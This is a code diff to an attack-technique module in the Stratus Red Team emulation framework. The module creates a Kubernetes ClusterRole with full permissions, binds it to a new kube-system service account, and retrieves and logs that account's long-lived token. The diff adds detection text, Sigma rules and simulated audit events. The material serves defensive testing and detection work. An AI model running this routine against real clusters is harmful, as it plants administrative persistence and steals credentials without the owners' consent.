@@ -1,22 +1,24 @@
 package kubernetes
 
 import (
-	"context"
 	_ "embed"
 	"errors"
 	"github.com/aws/smithy-go/ptr"
+	"github.com/datadog/stratus-red-team/internal/utils"
+	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/logs"
+	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
 	corev1 "k8s.io/api/core/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/util/wait"
-	"log"
 	"time"
-
-	"github.com/datadog/stratus-red-team/internal/providers"
-	"github.com/datadog/stratus-red-team/pkg/stratus"
-	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
 )
 
+//go:embed sigma.yml
+var sigma []byte
+
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
 		ID:                 "k8s.persistence.create-admin-clusterrole",
@@ -32,17 +34,27 @@ Warm-up: None
 Detonation: 
 
 - Create a Cluster Role with administrative permissions
-- Create a Service Account (in the ` + namespace + ` namespace)
+- Create a Service Account (in the ` + defaultNamespace + ` namespace, unless another namespace is selected)
 - Create a Cluster Role Binding
 - Retrieve the long-lived service account token, stored by K8s in a secret
 `,
-		Detonate: detonate,
-		Revert:   revert,
+		Detection: `
+Using Kubernetes API server audit logs, looking for the creation of cluster roles granting all verbs on all resources,
+and of cluster role bindings to such roles, in particular when the subject is a service account.
+`,
+		SigmaRules:  sigma,
+		Detonate:    detonate,
+		Simulate:    simulate,
+		Revert:      revert,
+		IsDetonated: isDetonated,
 	})
 }
 
-// Namespace to create the service account in
-const namespace = "kube-system"
+// Namespace to create the service account in, unless another namespace is selected
+const defaultNamespace = "kube-system"
+
+// Name of the detonation output holding the namespace the service account was created in
+const namespaceOutput = "namespace"
 
 var all = []string{"*"}
 
@@ -56,41 +68,46 @@ var serviceAccount = &corev1.ServiceAccount{
 	AutomountServiceAccountToken: ptr.Bool(true),
 }
 
-var clusterRoleBinding = &rbacv1.ClusterRoleBinding{
-	ObjectMeta: metav1.ObjectMeta{Name: "stratus-red-team-crb"},
-	Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: serviceAccount.Name, Namespace: namespace}},
-	RoleRef:    rbacv1.RoleRef{Kind: "ClusterRole", Name: clusterRole.Name},
+func clusterRoleBinding(namespace string) *rbacv1.ClusterRoleBinding {
+	return &rbacv1.ClusterRoleBinding{
+		ObjectMeta: metav1.ObjectMeta{Name: "stratus-red-team-crb"},
+		Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: serviceAccount.Name, Namespace: namespace}},
+		RoleRef:    rbacv1.RoleRef{Kind: "ClusterRole", Name: clusterRole.Name},
+	}
 }
 
-func detonate(map[string]string) error {
-	client := providers.K8s().GetClient()
-	ctx := context.Background()
+func detonate(execution *stratus.ExecutionContext) error {
+	client := execution.K8s.GetClient()
+	ctx := execution.Context
+	namespace := execution.K8s.GetNamespace(defaultNamespace)
+	// Persisted so that the service account is found when reverting, even if another namespace is selected by then
+	execution.SetOutput(namespaceOutput, namespace)
 
-	log.Println("Creating Cluster Role " + clusterRole.ObjectMeta.Name)
+	execution.Logger.Println("Creating Cluster Role " + clusterRole.ObjectMeta.Name)
 	_, err := client.RbacV1().ClusterRoles().Create(ctx, clusterRole, metav1.CreateOptions{})
 	if err != nil {
 		return errors.New("unable to create ClusterRole: " + err.Error())
 	}
 
-	log.Println("Creating Service Account " + serviceAccount.Name)
+	execution.Logger.Println("Creating Service Account " + serviceAccount.Name)
 	_, err = client.CoreV1().ServiceAccounts(namespace).Create(ctx, serviceAccount, metav1.CreateOptions{})
 	if err != nil {
 		return errors.New("unable to create ServiceAccount: " + err.Error())
 	}
 
-	log.Println("Creating Cluster Role Binding to map the service account to the cluster role")
-	_, err = client.RbacV1().ClusterRoleBindings().Create(ctx, clusterRoleBinding, metav1.CreateOptions{})
+	execution.Logger.Println("Creating Cluster Role Binding to map the service account to the cluster role")
+	_, err = client.RbacV1().ClusterRoleBindings().Create(ctx, clusterRoleBinding(namespace), metav1.CreateOptions{})
 	if err != nil {
 		return errors.New("unable to create ClusterRoleBinding: " + err.Error())
 	}
 
-	log.Println("Finding secret associated to the newly created service account")
+	execution.Logger.Println("Finding secret associated to the newly created service account")
 	// We need to wait for the ServiceAccount to have been picked up by the Secret Controller
 	// watching service account creation and provisioning secrets for them
 	// see https://kubernetes.io/docs/reference/access-authn-authz/service-accounts-admin/#token-controller
 	var secretName string
 	err = wait.PollImmediate(1*time.Second, 1*time.Minute, func() (done bool, err error) {
-		name, err := getServiceAccountSecretName()
+		name, err := getServiceAccountSecretName(execution, namespace)
 		secretName = name
 		return name != "", err
 	})
@@ -98,21 +115,21 @@ func detonate(map[string]string) error {
 		return errors.New("unable to find the associated secret: " + err.Error())
 	}
 
-	log.Println("Stealing permanent service account token for this service account")
+	execution.Logger.Println("Stealing permanent service account token for this service account")
 	tokenSecret, err := client.CoreV1().Secrets(namespace).Get(ctx, secretName, metav1.GetOptions{})
 	if err != nil {
 		return errors.New("unable to retrieve the service account token: " + err.Error())
 	}
 
 	token := string(tokenSecret.Data["token"])
-	log.Println("Successfully retrieved the service account token: \n\n" + token)
+	execution.Logger.Println("Successfully retrieved the service account token: \n\n" + token)
 	return nil
 }
 
 // Returns the name of the K8s secret containing the long-lived service account token
-func getServiceAccountSecretName() (string, error) {
-	client := providers.K8s().GetClient()
-	serviceAccount, err := client.CoreV1().ServiceAccounts(namespace).Get(context.Background(), serviceAccount.Name, metav1.GetOptions{})
+func getServiceAccountSecretName(execution *stratus.ExecutionContext, namespace string) (string, error) {
+	client := execution.K8s.GetClient()
+	serviceAccount, err := client.CoreV1().ServiceAccounts(namespace).Get(execution.Context, serviceAccount.Name, metav1.GetOptions{})
 	if err != nil {
 		return "", err
 	}
@@ -122,26 +139,76 @@ func getServiceAccountSecretName() (string, error) {
 	return "", nil
 }
 
-func revert(map[string]string) error {
-	client := providers.K8s().GetClient()
+// Returns the namespace the service account was created in when the technique was detonated
+func getDetonationNamespace(execution *stratus.ExecutionContext) string {
+	if namespace := execution.Parameters[namespaceOutput]; namespace != "" {
+		return namespace
+	}
+	// Detonated before the namespace was persisted
+	return execution.K8s.GetNamespace(defaultNamespace)
+}
+
+func revert(execution *stratus.ExecutionContext) error {
+	client := execution.K8s.GetClient()
 	roleName := clusterRole.Name
+	namespace := getDetonationNamespace(execution)
 	deleteOpts := metav1.DeleteOptions{GracePeriodSeconds: ptr.Int64(0)}
 
-	log.Println("Deleting ClusterRole " + roleName)
-	err := client.RbacV1().ClusterRoles().Delete(context.Background(), roleName, deleteOpts)
+	execution.Logger.Println("Deleting ClusterRole " + roleName)
+	err := client.RbacV1().ClusterRoles().Delete(execution.Context, roleName, deleteOpts)
 	if err != nil {
 		return errors.New("unable to remove ClusterRole " + err.Error())
 	}
 
-	err = client.CoreV1().ServiceAccounts(namespace).Delete(context.Background(), serviceAccount.Name, deleteOpts)
+	err = client.CoreV1().ServiceAccounts(namespace).Delete(execution.Context, serviceAccount.Name, deleteOpts)
 	if err != nil {
 		return errors.New("unable to remove ServiceAccount " + err.Error())
 	}
 
-	err = client.RbacV1().ClusterRoleBindings().Delete(context.Background(), clusterRoleBinding.Name, deleteOpts)
+	err = client.RbacV1().ClusterRoleBindings().Delete(execution.Context, clusterRoleBinding(namespace).Name, deleteOpts)
 	if err != nil {
 		return errors.New("unable to remove ClusterRoleBinding: " + err.Error())
 	}
 
 	return nil
 }
+
+func isDetonated(execution *stratus.ExecutionContext) (bool, error) {
+	client := execution.K8s.GetClient()
+
+	_, err := client.RbacV1().ClusterRoles().Get(execution.Context, clusterRole.Name, metav1.GetOptions{})
+	if apierrors.IsNotFound(err) {
+		return false, nil
+	} else if err != nil {
+		return false, errors.New("unable to retrieve ClusterRole: " + err.Error())
+	}
+
+	_, err = client.CoreV1().ServiceAccounts(getDetonationNamespace(execution)).Get(execution.Context, serviceAccount.Name, metav1.GetOptions{})
+	if apierrors.IsNotFound(err) {
+		return false, nil
+	} else if err != nil {
+		return false, errors.New("unable to retrieve ServiceAccount: " + err.Error())
+	}
+
+	return true, nil
+}
+
+// simulate generates the audit events of the cluster role, service account and cluster role binding being created,
+// and of the token of the service account being retrieved
+func simulate(simulation *stratus.SimulationContext) []stratus.LogRecord {
+	namespace := defaultNamespace
+	return []stratus.LogRecord{
+		logs.KubernetesAuditEvent(simulation, "create", logs.KubernetesObjectReference{
+			Resource: "clusterroles", APIGroup: "rbac.authorization.k8s.io",
+		}, clusterRole),
+		logs.KubernetesAuditEvent(simulation, "create", logs.KubernetesObjectReference{
+			Resource: "serviceaccounts", Namespace: namespace,
+		}, serviceAccount),
+		logs.KubernetesAuditEvent(simulation, "create", logs.KubernetesObjectReference{
+			Resource: "clusterrolebindings", APIGroup: "rbac.authorization.k8s.io",
+		}, clusterRoleBinding(namespace)),
+		logs.KubernetesAuditEvent(simulation, "get", logs.KubernetesObjectReference{
+			Resource: "secrets", Namespace: namespace, Name: serviceAccount.Name + "-token-" + utils.RandomString(5),
+		}, nil),
+	}
+}